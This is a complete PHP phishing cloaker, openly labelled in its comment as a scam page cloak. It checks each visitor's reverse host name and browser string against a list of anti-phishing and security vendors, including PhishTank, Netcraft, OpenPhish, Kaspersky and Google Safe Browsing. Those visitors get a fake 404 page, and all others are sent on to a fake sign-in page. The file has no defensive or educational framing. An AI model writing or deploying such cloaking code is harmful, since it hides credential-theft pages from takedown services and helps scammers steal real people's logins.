<?php
// Scam page cloak: visitors whose reverse host name or browser names an anti-phishing or
// security service get a 404; everyone else is sent on to the fake login.
$ip = $_SERVER['REMOTE_ADDR'];
$host = strtolower(@gethostbyaddr($ip));
$agent = strtolower($_SERVER['HTTP_USER_AGENT']);
$blocked = array('phishtank', 'netcraft', 'openphish', 'fraudwatch', 'bitdefender',
                 'kaspersky', 'trendmicro', 'safebrowsing');
foreach ($blocked as $word) {
    if (strpos($host, $word) !== false || strpos($agent, $word) !== false) {
        header('HTTP/1.0 404 Not Found');
        die('<h1>404 Not Found</h1>');
    }
}
header('Location: https://account-verify.example.test/signin/');
